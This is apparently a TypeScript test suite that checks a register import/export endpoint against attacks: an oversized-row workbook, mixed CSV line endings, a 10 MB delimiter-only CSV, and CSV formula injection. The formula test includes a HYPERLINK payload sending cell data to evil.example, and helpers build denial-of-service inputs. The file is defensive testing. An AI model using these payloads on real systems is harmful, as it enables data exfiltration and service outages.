// Attacks on the register import and export written at test time (issue: outside tester): a workbook that
// declares rows far down the sheet, CSV with mixed line endings, a CSV that is one line of delimiters read in
// the request thread, and cells that spreadsheet software runs as formulas in the exported CSV.
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { monitorEventLoopDelay } from "node:perf_hooks";
import { startTestApp, TestApp } from "../helpers/app";
import { uploadRegister } from "../helpers/register";
import { createProcessor } from "../helpers/fixtures";
import { retryWallClockBounds } from "../helpers/wall-clock";

retryWallClockBounds();

let app: TestApp;
let base: string;
let key: string;
let otherKey: string;

const upload = (bytes: Buffer, name: string, type?: string, as = key) => uploadRegister(app, as, bytes, name, type);

async function storedImports(): Promise<number> {
  const [row] = await app.db.owner.query(`SELECT count(*)::int AS n FROM register_import`);
  return row.n;
}

/** A real workbook (exceljs) whose second row is moved to row `rowNumber` in the sheet's XML: 6 KB on the wire. */
async function workbookWithRowAt(rowNumber: number): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet("Databehandlere");
  ws.addRow(["Navn", "Land"]);
  ws.addRow(["Fjern Række ApS", "DK"]);
  const z = await JSZip.loadAsync(Buffer.from(await wb.xlsx.writeBuffer()));
  const path = "xl/worksheets/sheet1.xml";
  const xml = (await z.file(path)!.async("string"))
    .replace(/<row r="2"[^>]*>/, `<row r="${rowNumber}">`)
    .replace(/r="([A-Z]+)2"/g, `r="$1${rowNumber}"`);
  z.file(path, xml);
  return z.generateAsync({ type: "nodebuffer", compression: "DEFLATE" });
}

beforeAll(async () => {
  app = await startTestApp();
  base = app.server.url.replace(/\/graphql$/, "");
  key = (await app.newOrganization("Angreb Kommune")).key;
  otherKey = (await app.newOrganization("Nabo Kommune")).key;
});

afterAll(async () => {
  await app?.stop();
});

describe("a workbook that declares rows far down the sheet", () => {
  test("one row at 3,000,000 (6 KB file) is refused naming the cell, fast, nothing stored", async () => {
    // On main: every skipped row is padded with an empty array before the row count is checked, so a row at
    // 3,000,000 holds 3 million arrays (a row at 20,000,000: 1 GB and 7 s in the request thread; at 2^31 the
    // process runs out of memory).
    const before = await storedImports();
    const started = Date.now();
    const res = await upload(await workbookWithRowAt(3_000_000), "register.xlsx");
    const ms = Date.now() - started;
    expect(res.status).toBe(422);
    expect(res.body.error).toMatchObject({ code: "OUT_OF_RANGE", field: "file" });
    expect(res.body.error.message).toMatch(/^Sheet "Databehandlere" has a value in cell A3000000, below row 50050/);
    expect(ms).toBeLessThan(2000);
    expect(await storedImports()).toBe(before);
  });

  test("the last row Excel allows (1,048,576) with one vendor is refused, not planned as 1M rows", async () => {
    const before = await storedImports();
    const res = await upload(await workbookWithRowAt(1_048_576), "register.xlsx");
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe("OUT_OF_RANGE");
    expect(await storedImports()).toBe(before);
  });
});

describe("CSV line endings", () => {
  const IMPORT = `query($id: ID!) { registerImport(id: $id) { rowsRead rows(limit: 100) { row label action } } }`;

  test("CRLF, CR and LF mixed in one file: every vendor is a row of its own", async () => {
    // On main the first line ending found is the only one: "X;DK\rY;SE\nZ;NO" is one row whose Land cell reads
    // "DK\rY" and whose extra cells hold the other vendors, so two vendors vanish without a problem naming them.
    const csv = Buffer.from("Navn;Land\r\nAlfa Data ApS;DK\rBeta Data ApS;SE\nGamma Data ApS;NO\n", "utf8");
    const res = await upload(csv, "Databehandlere.csv", "text/csv");
    expect(res.status).toBe(201);
    const plan = (await app.ok(key, IMPORT, { id: res.body.registerImport.id })).registerImport;
    expect(plan.rows.map((r: any) => r.label)).toEqual(["Alfa Data ApS", "Beta Data ApS", "Gamma Data ApS"]);
    expect(plan.rows.every((r: any) => r.action === "CREATE")).toBe(true);
  });
});

describe("other tenants while a register is read", () => {
  test("a 10 MB CSV of one line of ';' holds neither the event loop past 0.5 s nor others past 3 s", async () => {
    // On main the CSV is parsed synchronously in the request thread (csv-parse/sync) before the column count is
    // checked: 10 million empty cells, 6.8 s of one core with the event loop blocked. The server runs in this
    // process, so the longest turn of its event loop is measured: that is the upload's own doing, whatever the load.
    // Another tenant's query is also timed, against a looser bound: 42 ms quiet, 2.06 s once in CI with other suites
    // on both cores (a 2 s bound then failed though the refusal itself takes ~0.1 s).
    const bomb = Buffer.alloc(10 * 1024 * 1024 - 4096, ";");
    const delay = monitorEventLoopDelay({ resolution: 10 });
    delay.enable();
    const pending = upload(bomb, "semikolon.csv", "text/csv");
    await new Promise((r) => setTimeout(r, 150));
    const latencies: number[] = [];
    for (let i = 0; i < 5; i++) {
      const t = Date.now();
      const res = await app.gql(otherKey, "{ viewer { __typename } }");
      expect(res.status).toBe(200);
      latencies.push(Date.now() - t);
    }
    const res = await pending;
    delay.disable();
    const longestTurn = delay.max / 1e6;
    console.log(
      `[attack-register] a 10 MB line of ';': longest turn of the event loop ${longestTurn.toFixed(0)} ms; ` +
        `another tenant's query ${latencies.join(", ")} ms`,
    );
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe("OUT_OF_RANGE");
    expect(longestTurn).toBeLessThan(500);
    expect(Math.max(...latencies)).toBeLessThan(3000);
  });
});

describe("formula injection in the register's CSV export", () => {
  test("a cell starting with = + - @ is exported as text, not as a formula; it imports back UNCHANGED", async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+45 Cloud ApS", "@SUM(1+1)", "-1+2 Data ApS"];
    for (const name of names) await createProcessor(app, key, { name, countryCode: "DK" });
    const res = await fetch(`${base}/exports/register.csv?lang=da`, { headers: { authorization: `Bearer ${key}` } });
    expect(res.status).toBe(200);
    const text = await res.text();
    const cells = text
      .replace(/^\uFEFF/, "")
      .split("\r\n")
      .flatMap((line) => line.split(";"))
      .map((c) => c.replace(/^"/, ""));
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@]/);
    // The export still imports back: every row UNCHANGED, with the names as stored.
    const again = await upload(Buffer.from(text, "utf8"), "Databehandlere.csv", "text/csv");
    expect(again.status).toBe(201);
    const plan = (
      await app.ok(key, `query($id: ID!) { registerImport(id: $id) { rows(limit: 100) { label action } } }`, {
        id: again.body.registerImport.id,
      })
    ).registerImport;
    const byLabel = Object.fromEntries(plan.rows.map((r: any) => [r.label, r.action]));
    for (const name of names) expect(byLabel[name]).toBe("UNCHANGED");
  });
});
